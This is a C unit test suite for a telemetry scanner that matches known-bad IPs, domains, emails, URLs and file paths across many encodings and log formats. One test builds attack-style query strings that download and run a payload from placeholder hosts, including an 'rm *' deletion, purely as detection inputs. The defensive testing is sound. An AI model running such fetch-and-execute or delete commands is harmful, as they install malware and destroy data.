/* SPDX-License-Identifier: Apache-2.0 */
/* One value, every spelling that telemetry has for it; and each class of what only looks like it. */
#include "watch_test.h"

#include "watch/scan_kernel.h"

static void
open_index(wt *t)
{
	wt_open(t);
	wt_value(t, "a", AC_VALUE_IPV4, "192.0.2.7");
	wt_value(t, "6", AC_VALUE_IPV6, "2001:db8::7");
	wt_value(t, "l", AC_VALUE_IPV6, "fe80::7");
	wt_value(t, "d", AC_VALUE_DOMAIN, "evil.example");
	wt_value(t, "i", AC_VALUE_DOMAIN, "xn--bcher-kva.example");
	wt_value(t, "e", AC_VALUE_EMAIL, "phisher@evil.example");
	wt_value(t, "u", AC_VALUE_URL, "http://bad.example/a?b=c");
	wt_value(t, "h", AC_VALUE_URL, "http://198.51.100.1/a/b");
	wt_value(t, "p", AC_VALUE_FILE_PATH, "C:\\temp\\tool7.exe");
}

static void
address6__is_one_in_every_form_of_rfc_4291(void **state)
{
	static const wt_row rows[] = {
		{ "2001:db8::7", "1:0+11 ipv6-addr exact 2001:db8::7 6\n" },
		{ "2001:DB8:0:0:0:0:0:7", "1:0+20 ipv6-addr exact 2001:db8::7 6\n" },
		{ "2001:0db8:0000:0000:0000:0000:0000:0007", "1:0+39 ipv6-addr exact 2001:db8::7 6\n" },
		{ "[2001:db8::7]:443", "1:1+11 ipv6-addr exact 2001:db8::7 6\n" },
		{ "fe80::7%eth0", "1:0+7 ipv6-addr exact fe80::7 l\n" }, /* RFC 4007: the zone is the host's own */
		{ "fe80::7%12", "1:0+7 ipv6-addr exact fe80::7 l\n" },
		{ "::ffff:192.0.2.7", "1:0+16 ipv4-addr exact 192.0.2.7 a\n" },
		{ "::FFFF:c000:207", "1:0+15 ipv4-addr exact 192.0.2.7 a\n" },
		{ "2001:db8::70", "" },
		{ "2001:db8::7:1", "" },
		{ "12001:db8::7", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

static void
address4__is_no_version_and_no_part_of_a_longer_number(void **state)
{
	static const wt_row rows[] = {
		{ "192.0.2.7:443", "1:0+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "(192.0.2.7)", "1:1+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "to 192.0.2.7.", "1:3+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "DIRECT/192.0.2.7", "1:7+9 ipv4-addr exact 192.0.2.7 a\n" },
		/* a path may name an address: proxies and exploits write them there */
		{ "/proxy/192.0.2.7/x", "1:7+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "192.0.2.70 1192.0.2.7 192.0.2.7.1 9.192.0.2.7 192.0.2.07", "" },
		{ "v192.0.2.7 192.0.2.7-beta 192.0.2.7_1", "" },
		{ "Chrome/192.0.2.7 version 192.0.2.7", "" },
		{ "x\nChrome/192.0.2.7\n<b>Chrome/192.0.2.7</b> a|Chrome/192.0.2.7", "" },
		{ "{\"software_version\":\"192.0.2.7\"}", "" },
		{ "agentVersion: 192.0.2.7 v=192.0.2.7 osver=\"192.0.2.7\"", "" },
		{ "{\"http_user_agent\":\"x 192.0.2.7 y\"}", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

static void
address__is_an_end_of_a_flow(void **state)
{
	static const wt_row rows[] = {
		{ "192.0.2.7->198.51.100.1", "1:0+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "198.51.100.1->192.0.2.7", "1:14+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "192.0.2.7-->192.0.2.7 192.0.2.7 -> x",
		    "1:0+9 ipv4-addr exact 192.0.2.7 a\n1:12+9 ipv4-addr exact 192.0.2.7 a\n"
		    "1:22+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "2001:db8::7->2001:db8::7",
		    "1:0+11 ipv6-addr exact 2001:db8::7 6\n1:13+11 ipv6-addr exact 2001:db8::7 6\n" },
		{ "evil.example->b.evil.example--> phisher@evil.example->x",
		    "1:0+12 domain-name exact evil.example d\n1:14+14 domain-name subdomain b.evil.example d\n"
		    "1:32+20 email-addr exact phisher@evil.example e\n1:40+12 domain-name exact evil.example d\n" },
		{ "................................................................... evil.example->B\xc3\x9c"
		  "CHER.example->",
		    "1:68+12 domain-name exact evil.example d\n1:82+15 domain-name exact xn--bcher-kva.example i\n" },
		{ "x\n192.0.2.7.443 > 192.0.2.7.5: x",
		    "2:2+9 ipv4-addr exact 192.0.2.7 a\n2:18+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "evil.example.->x", "1:0+12 domain-name exact evil.example d\n" },
		{ "evil.example- > evil.example-x evil.example-a->", "" },
		{ "192.0.2.7-198.51.100.1 192.0.2.7--x 192.0.2.7- > 2001:db8::7-x 192.0.2.7_->", "" },
		/* behind tcpdump's addresses stand ports */
		{ "10:00:00.123456 IP 192.0.2.7.443 > 198.51.100.7.55321: Flags [S]",
		    "1:19+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "10:00:00.123456 IP 198.51.100.7.55321 > 192.0.2.7.443: Flags [S]",
		    "1:40+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "IP 192.0.2.7.443 > host.example.ssh: Flags", "1:3+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "IP host.example.ssh > 192.0.2.7.0: Flags", "1:22+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "    192.0.2.7.443 > 192.0.2.7.65535: Flags",
		    "1:4+9 ipv4-addr exact 192.0.2.7 a\n1:20+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "IP6 2001:db8::7.443 > 2001:db8::7.55321: Flags",
		    "1:4+11 ipv6-addr exact 2001:db8::7 6\n1:22+11 ipv6-addr exact 2001:db8::7 6\n" },
		{ "IP 192.0.2.7 > 192.0.2.7: ICMP echo request",
		    "1:3+9 ipv4-addr exact 192.0.2.7 a\n1:15+9 ipv4-addr exact 192.0.2.7 a\n" },
		/* and behind those of netstat's and argus's rows */
		{ "tcp4       0      0  10.0.0.5.51234         192.0.2.7.443          ESTABLISHED",
		    "1:44+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "udp4       0      0  192.0.2.7.123          *.*", "1:21+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "192.0.2.7.51234 \t 192.0.2.7.443 49640 0 49640 0 TIME_WAIT",
		    "1:0+9 ipv4-addr exact 192.0.2.7 a\n1:18+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "10:00:00.1 e         tcp        192.0.2.7.443      <?>      10.0.0.1.5      10 CON",
		    "1:32+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "10:00:00.1 e  udp  10.0.0.1.53    <->    192.0.2.7.5  10 CON",
		    "1:41+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "tcp6       0      0  2001:db8::9.5          2001:db8::7.443        ESTABLISHED",
		    "1:44+11 ipv6-addr exact 2001:db8::7 6\n" },
		{ "tcp4 0 0 192.0.2.7.443 2001:db8::9.5 CLOSED", "1:9+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "tcp4 0 0 192.0.2.7.443 192.0.2.7.5",
		    "1:9+9 ipv4-addr exact 192.0.2.7 a\n1:23+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "pkg: upgraded foo 192.0.2.7.1 -> 192.0.2.7.2", "" },
		{ "192.0.2.7.1 192.0.2.7.2 192.0.2.7.3 installed", "" },
		{ "tcp4 x 192.0.2.7.1 192.0.2.7.2", "" },
		{ "libtcp 192.0.2.7.1 192.0.2.7.2 ESTABLISHEDx", "" },
		{ "tcp4 0 0 192.0.2.7.1", "" },
		{ "tcp4 0 0 192.0.2.7.1\n192.0.2.7.2 ESTABLISHED", "" },
		{ "tcp4 0 0 192.0.2.7.1, 192.0.2.7.2", "" },
		/* others are no addresses */
		{ "192.0.2.7.443 > 192.0.2.7.5", "" },
		{ "192.0.2.7.443 > 2: ok; 2 > 192.0.2.7.443: ok", "" },
		{ "IP 192.0.2.7.65536 > 192.0.2.7.123456: x", "" },
		{ "IP 192.0.2.7.443.1 > 1.192.0.2.7.443: x", "" },
		{ "IP 192.0.2.7.443 >192.0.2.7.443:", "" },
		{ "RIP 192.0.2.7.443 > x:", "" },
		{ "IP 192.0.2.7.443 > x", "" },
		{ "IP 192.0.02.7.443 > x:", "" },
		{ "IP 192.0.2.7.443x > 192.0.2.7.x443:", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

/* At every place of a word of the maps, and over their ends, by each kernel of this processor. */
static void
ends_of_flows_and_encoded_values__are_found_by_every_kernel(void **state)
{
	static const char flow[] = "evil.example->192.0.2.7->x IP 192.0.2.7.443 > 192.0.2.7.5: x^Ievil.example "
				   "http%3A%2F%2Fbad.example%2Fa%3Fb%3Dc&phisher%40evil.example&x%2Fevil.example "
				   "http%3A%2F%2F198.51.100.1%2Fa%2Fb&x%20192.0.2.7%252F192.0.2.7 "
				   "tcp4 0 0 192.0.2.7.443 10.0.0.1.5 CLOSED";
	char text[130 * (sizeof(flow) + 65)];
	const ac_scan_kernel *kernel;
	accord_err err = { 0 };
	size_t n = 0;
	wt t;

	(void)state;
	open_index(&t);
	wt_build(&t);
	for (size_t i = 0; i < 130; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "%*s%s\n", (int)(i % 65), "", flow);
	for (size_t i = 0; (kernel = ac_scan_kernel_at(i)) != NULL; i++) {
		ac_watch_sink sink = { wt_on_hit, wt_on_held, &t };
		ac_watch *w = ac_watch_open(t.index, AC_S("x"), t.as_of, &sink);
		ac_watch_counts counts;

		assert_non_null(w);
		ac_watch_use_kernel(w, kernel);
		assert_int_equal(ac_watch_feed(w, (ac_str){ text, n }, &err), 0);
		assert_int_equal(ac_watch_end(w, &err), 0);
		ac_watch_count(w, &counts);
		assert_int_equal(counts.hits, 130 * 13);
		ac_watch_close(w);
	}
	wt_close(&t);
}

/* URLs, hosts and addresses as they stand in queries of other URLs. */
static void
values__may_have_percent_encoded_bytes_around_them(void **state)
{
	static const wt_row rows[] = {
		{ "/r?u=http%3A%2F%2Fevil.example%2Fx", "1:18+12 domain-name exact evil.example d\n" },
		{ "/r?u=http%3A%2F%2Fbad.example%2Fa%3Fb%3Dc&v=w", "1:5+36 url url http://bad.example/a?b=c u\n" },
		{ "/r?u=http:%2F%2Fbad.example%2Fa%3Fb%3Dc&v=w", "1:5+34 url url http://bad.example/a?b=c u\n" },
		{ "/r?u=HTTP%3a%2f%2fBAD.example%2fa%3fb%3dc", "1:5+36 url url http://bad.example/a?b=c u\n" },
		{ "/r?u=http%253A%252F%252Fbad.example%252Fa%253Fb%253Dc.",
		    "1:5+48 url url http://bad.example/a?b=c u\n" },
		{ "/r?u=http%3A%2F%2Fbad.example%3A80%2Fa%3Fb%3Dc", "1:5+41 url url http://bad.example/a?b=c u\n" },
		{ "/r?m=phisher%40evil.example&x",
		    "1:5+22 email-addr exact phisher@evil.example e\n1:15+12 domain-name exact evil.example d\n" },
		{ "/r?m=phisher%2540EVIL.example",
		    "1:5+24 email-addr exact phisher@evil.example e\n1:17+12 domain-name exact evil.example d\n" },
		{ "x%20evil.example%20 %22a.evil.example%22",
		    "1:4+12 domain-name exact evil.example d\n1:23+14 domain-name subdomain a.evil.example d\n" },
		{ "%3Cphisher%40evil.example%3E mailto%3A%70hisher%40evil.example",
		    "1:3+22 email-addr exact phisher@evil.example e\n1:13+12 domain-name exact evil.example d\n"
		    "1:38+24 email-addr exact phisher@evil.example e\n1:50+12 domain-name exact evil.example d\n" },
		{ "/r?u=http%3A%2F%2F198.51.100.1%2Fa%2Fb", "1:5+33 url url http://198.51.100.1/a/b h\n" },
		{ "/r?u=http%253A%252F%252F198.51.100.1%253A80%252Fa%252Fb&v",
		    "1:5+50 url url http://198.51.100.1/a/b h\n" },
		{ "x%20192.0.2.7 %22192.0.2.7%22 a%3D192.0.2.7%3a443 %2525252f192.0.2.7->x",
		    "1:4+9 ipv4-addr exact 192.0.2.7 a\n1:17+9 ipv4-addr exact 192.0.2.7 a\n"
		    "1:34+9 ipv4-addr exact 192.0.2.7 a\n1:59+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "%201192.0.2.7 %2F.192.0.2.7 %2F192.0.2.7.1 %2F5.192.0.2.7 %F192.0.2.7 %252F%30192.0.2.7 "
		  "%2F192.0.2.07 "
		  "%2F192.0.2.256 2F192.0.2.7 %2525252525252f192.0.2.7",
		    "" },
		/* letters are of names, and what is no encoding is as it stands */
		{ "%61evil.example %evil.example1 %2evil.example %zzevil.example %C3%BCevil.example x%2F2Fevil.example",
		    "" },
		{ "/r?u=http%3A%2F%2Fbad.example%2Fa%3Fb%3Dcd&v=w http%3A%2Fbad.example%2Fa%3Fb%3Dc", "" },
		{ "x%40phisher@evil.example.org notphisher%40evil.example.org", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

/* A document that is printed over several lines: each of its lines is text, with the escapes of JSON where it is a member or an element. */
static void
values__have_escapes_of_json_in_lines_of_a_document(void **state)
{
	static const wt_row rows[] = {
		{ "{\n  \"u\" : \"http:\\/\\/bad.example\\/a?b=c\",\n  \"l\": [\n    \"b\\u00fccher.example\",\n    "
		  "\"http:\\/\\/198.51.100.1\\/a\\/b\"\n  ]\n}",
		    "2:11+27 url url http://bad.example/a?b=c u malformed\n4:55+19 domain-name exact "
		    "xn--bcher-kva.example i malformed\n"
		    "5:82+27 url url http://198.51.100.1/a/b h malformed\n" },
		{ "  \"C:\\temp\\tool7.exe\",\n\"C:\\temp\\tool7.exe\": denied\n\"C:\\temp\\tool7.exe\"\n",
		    "1:3+17 file-path exact c:\\temp\\tool7.exe p\n2:24+17 file-path exact c:\\temp\\tool7.exe p\n"
		    "3:52+17 file-path exact c:\\temp\\tool7.exe p\n" },
		{ "x \"u\": \"http:\\/\\/bad.example\\/a?b=c\"", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

/* What needs no percent-encoding may have it, wherever a kernel looks at a path, short or long. */
static void
url__is_found_with_percent_encoding_by_every_kernel(void **state)
{
	static const char *const urls[] = { "http://tilde.example/%7Euser/x", "HTTP://tilde.example/~user/%78 ",
		"http://tilde.example/%7euser/x>", "http://tilde.example/a%20b/%7E?q=%41",
		"http://tilde.example/0123456789012345678901234567890123456789012345678901234567890123/%7E/x",
		"http://tilde.example/%7Euser/xy", "http://tilde.example/%7Fuser/x", "http://tilde.example/a b/~?q=A",
		"http://tilde.example/stra%C3%9Fe", "http://tilde.example/stra\u00dfe>",
		"http://tilde.example/stra%c3%9Fe 0123456789012345678901234567890123456789012345678901234567890123" };
	char text[11 * 130 * 200];
	const ac_scan_kernel *kernel;
	accord_err err = { 0 };
	size_t n = 0;
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_URL, "http://tilde.example/~user/x");
	wt_value(&t, "b", AC_VALUE_URL, "http://tilde.example/a%20b/~?q=A");
	wt_value(&t, "c", AC_VALUE_URL,
	    "http://tilde.example/0123456789012345678901234567890123456789012345678901234567890123/~/x");
	wt_value(&t, "d", AC_VALUE_URL, "http://tilde.example/stra\u00dfe");
	wt_build(&t);
	for (size_t i = 0; i < 130; i++)
		for (size_t k = 0; k < AC_COUNT(urls); k++)
			n += (size_t)snprintf(text + n, sizeof(text) - n, "%*s%s\n", (int)(i % 65), "", urls[k]);
	for (size_t i = 0; (kernel = ac_scan_kernel_at(i)) != NULL; i++) {
		ac_watch_sink sink = { wt_on_hit, wt_on_held, &t };
		ac_watch *w = ac_watch_open(t.index, AC_S("x"), t.as_of, &sink);
		ac_watch_counts counts;

		assert_non_null(w);
		ac_watch_use_kernel(w, kernel);
		assert_int_equal(ac_watch_feed(w, (ac_str){ text, n }, &err), 0);
		assert_int_equal(ac_watch_end(w, &err), 0);
		ac_watch_count(w, &counts);
		assert_int_equal(counts.hits, 130 * 8);
		ac_watch_close(w);
	}
	wt_close(&t);
}

/* As commands stand in the queries of attacks: '+' and "%20" are blanks there, before a URL and behind it. */
static void
url__is_found_between_blanks_of_a_query_by_every_kernel(void **state)
{
	static const char *const hosts[] = { "cmd.example", "198.51.100.9:8080", "198.51.100.9" };
	static const char *const lines[] = { "/r?c=wget+http://HOST/M.m", "/r?c=rm+*;wget+http://HOST/M.m+-O+/tmp/x;sh",
		"/r?c=wget+http://HOST/M.m;sh", "/r?c=wget+http://HOST/M.m&x=1", "/r?c=wget+http://HOST/M.m%3bsh",
		"/r?c=wget%20http://HOST/M.m", "/r?c=wget%20http://HOST/M.m%20-O", "/r?c=(wget%20http://HOST/M.m%7csh)",
		"/r?c=%22http://HOST/M.m%22", "/r?c=a%20http%3A%2F%2FHOST%2FM.m%20-O",
		"/r?c=wget+http%3a%2f%2fHOST%2fM.m+-O", "git+http://HOST/M.m" };
	static const char *const others[] = { "/r?c=wget+http://HOST/M.mx+-O", "/r?c=wget+http://HOST/M.m/x",
		"/r?c=wget%20http://HOST/M.m%2fx", "/r?u=http://HOST/M.m+x", "/r?u=http://HOST/M.m%20x",
		"http://HOST/M.m+x", "http://HOST/M.m%20x", "/r?c=wget+ahttp://HOST/M.m", "/r?c=wget%2http://HOST/M.m",
		"/r?c=a%20http%3A%2F%2FHOST%2FM.m%2520-O" };
	char text[3 * 66 * 24 * 140];
	const ac_scan_kernel *kernel;
	accord_err err = { 0 };
	size_t n = 0;
	wt t;

	(void)state;
	wt_open(&t);
	for (size_t h = 0; h < AC_COUNT(hosts); h++) {
		char url[64];

		(void)snprintf(url, sizeof(url), "http://%s/M.m", hosts[h]);
		wt_value(&t, url + 7, AC_VALUE_URL, url);
		for (size_t i = 0; i < 66; i++) {
			for (size_t k = 0; k < AC_COUNT(lines) + AC_COUNT(others); k++) {
				size_t known = AC_COUNT(lines);
				const char *line = k < known ? lines[k] : others[k - known],
					   *host = strstr(line, "HOST");

				n += (size_t)snprintf(text + n, sizeof(text) - n, "%*s%.*s%s%s\n", (int)i, "",
				    (int)(host - line), line, hosts[h], host + 4);
			}
		}
	}
	wt_build(&t);
	for (size_t i = 0; (kernel = ac_scan_kernel_at(i)) != NULL; i++) {
		ac_watch_sink sink = { wt_on_hit, wt_on_held, &t };
		ac_watch *w = ac_watch_open(t.index, AC_S("x"), t.as_of, &sink);
		ac_watch_counts counts;

		assert_non_null(w);
		ac_watch_use_kernel(w, kernel);
		assert_int_equal(ac_watch_feed(w, (ac_str){ text, n }, &err), 0);
		assert_int_equal(ac_watch_end(w, &err), 0);
		ac_watch_count(w, &counts);
		assert_int_equal(counts.hits, AC_COUNT(hosts) * 66 * AC_COUNT(lines));
		ac_watch_close(w);
	}
	wt_close(&t);
}

static void
open_letters(wt *t)
{
	wt_open(t);
	wt_value(t, "a", AC_VALUE_URL, "http://a.example/stra\u00dfe?q=\U0001f600");
	wt_value(t, "b", AC_VALUE_URL, "http://b.example/stra%C3%9fe");
	wt_value(t, "c", AC_VALUE_URL, "http://c.example/%C2%9B%C3");
	wt_value(t, "d", AC_VALUE_URL, "http://d.example/%E2%80%AE");
}

/* RFC 3987 s3.1: over the wire they go percent-encoded. Half of one, and what is a control character, is nothing but its bytes. */
static void
url__has_letters_beyond_ascii_with_and_without_percent_encoding(void **state)
{
	static const wt_row rows[] = {
		{ "http://a.example/stra%C3%9Fe?q=%F0%9f%98%80",
		    "1:0+43 url url http://a.example/stra%C3%9Fe?q=%F0%9f%98%80 a\n" },
		{ "http://A.example/stra%c3%9fe?q=\U0001f600",
		    "1:0+35 url url http://a.example/stra%c3%9fe?q=\U0001f600 a\n" },
		{ "http://b.example/stra\u00dfe", "1:0+24 url url http://b.example/stra\u00dfe b\n" },
		{ "http://b.example/stra%C3%9Fe.", "1:0+28 url url http://b.example/stra%C3%9Fe b\n" },
		{ "{\"url\":\"http:\\/\\/b.example\\/stra\\u00dfe\"}",
		    "1:8+31 url url http://b.example/stra\u00dfe b\n" },
		{ "{\"http\":{\"url\":\"/stra%C3%9Fe\",\"hostname\":\"b.example\"}}",
		    "1:42+9 url url http://b.example/stra%C3%9Fe b\n" },
		{ "{\"http\":{\"url\":\"/stra\u00dfe\",\"hostname\":\"b.example\"}}",
		    "1:38+9 url url http://b.example/stra\u00dfe b\n" },
		{ "http://b.example/stra%C3\237e", "" },
		{ "http://b.example/stra%C3%9ee", "" },
		{ "http://c.example/%C2%9b%c3", "1:0+26 url url http://c.example/%C2%9b%c3 c\n" },
		{ "http://c.example/\302\233%c3", "" },
		{ "http://d.example/%e2%80%ae", "1:0+26 url url http://d.example/%e2%80%ae d\n" },
	};

	(void)state;
	wt_check(open_letters, rows, AC_COUNT(rows));
}

/* Whatever its spelling takes: no URL of the index is half as long as this one. */
static void
url__is_found_however_much_of_it_is_percent_encoded(void **state)
{
	char url[500] = "http://a.example/", line[1300] = "http://a.example/", want[1900];
	ac_str got;
	wt t;

	(void)state;
	for (size_t i = 0; i < 400; i++) {
		(void)strcat(url, "x");
		(void)strcat(line, "%78");
	}
	(void)snprintf(want, sizeof(want), "1:0+1217 url url %s u\n", line);
	wt_open(&t);
	wt_value(&t, "u", AC_VALUE_URL, url);
	got = wt_scan(&t, line);
	assert_true(ac_str_eq(got, ac_str_from(want)));
	wt_close(&t);
}

static void
domain__is_one_in_any_case_with_its_subdomains(void **state)
{
	static const wt_row rows[] = {
		{ "EVIL.Example", "1:0+12 domain-name exact evil.example d\n" },
		{ "evil.example.", "1:0+12 domain-name exact evil.example d\n" },
		{ "a.b.evil.example:8080", "1:0+16 domain-name subdomain a.b.evil.example d\n" },
		{ "http://user:pw@evil.example/", "1:15+12 domain-name exact evil.example d\n" },
		{ "b\xc3\xbc"
		  "cher.example",
		    "1:0+15 domain-name exact xn--bcher-kva.example i\n" },
		{ "XN--BCHER-KVA.EXAMPLE", "1:0+21 domain-name exact xn--bcher-kva.example i\n" },
		{ "{\"q\":\"b\\u00fccher.example\"}", "1:6+19 domain-name exact xn--bcher-kva.example i\n" },
		{ "notevil.example evil.example.org evil.examples evil-example", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

/* The domain of an address is that of a server that is asked for it: it counts as the domain does. */
static void
email__is_one_in_any_case_and_its_domain_counts_too(void **state)
{
	static const wt_row rows[] = {
		{ "<Phisher@EVIL.example>",
		    "1:1+20 email-addr exact phisher@evil.example e\n1:9+12 domain-name exact evil.example d\n" },
		{ "other@evil.example", "1:6+12 domain-name exact evil.example d\n" },
		{ "notphisher@evil.example", "1:11+12 domain-name exact evil.example d\n" },
		{ "phisher@evil.example.org", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

/* User info and fragment belong to a URL's text; only its own default port does not. */
static void
url__is_compared_as_a_whole(void **state)
{
	static const wt_row rows[] = {
		{ "http://BAD.example:80/a?b=c", "1:0+27 url url http://bad.example/a?b=c u\n" },
		{ "HTTP://bad.example./a?b=c", "1:0+25 url url http://bad.example/a?b=c u\n" },
		{ "{\"u\":\"http:\\/\\/bad.example\\/a?b=c\"}", "1:6+27 url url http://bad.example/a?b=c u\n" },
		{ "http://bad.example/a?b=cd", "" },
		{ "http://bad.example/A?b=c", "" },
		{ "http://bad.example:8080/a?b=c", "" },
		{ "https://bad.example/a?b=c", "" },
		{ "http://user@bad.example/a?b=c", "" },
		{ "http://bad.example/a?b=c#top", "" },
		{ "http://notbad.example/a?b=c", "" },
	};

	(void)state;
	wt_check(open_index, rows, AC_COUNT(rows));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(address6__is_one_in_every_form_of_rfc_4291),
		cmocka_unit_test(address4__is_no_version_and_no_part_of_a_longer_number),
		cmocka_unit_test(address__is_an_end_of_a_flow),
		cmocka_unit_test(ends_of_flows_and_encoded_values__are_found_by_every_kernel),
		cmocka_unit_test(values__may_have_percent_encoded_bytes_around_them),
		cmocka_unit_test(values__have_escapes_of_json_in_lines_of_a_document),
		cmocka_unit_test(url__is_found_with_percent_encoding_by_every_kernel),
		cmocka_unit_test(url__has_letters_beyond_ascii_with_and_without_percent_encoding),
		cmocka_unit_test(url__is_found_however_much_of_it_is_percent_encoded),
		cmocka_unit_test(url__is_found_between_blanks_of_a_query_by_every_kernel),
		cmocka_unit_test(domain__is_one_in_any_case_with_its_subdomains),
		cmocka_unit_test(email__is_one_in_any_case_and_its_domain_counts_too),
		cmocka_unit_test(url__is_compared_as_a_whole),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
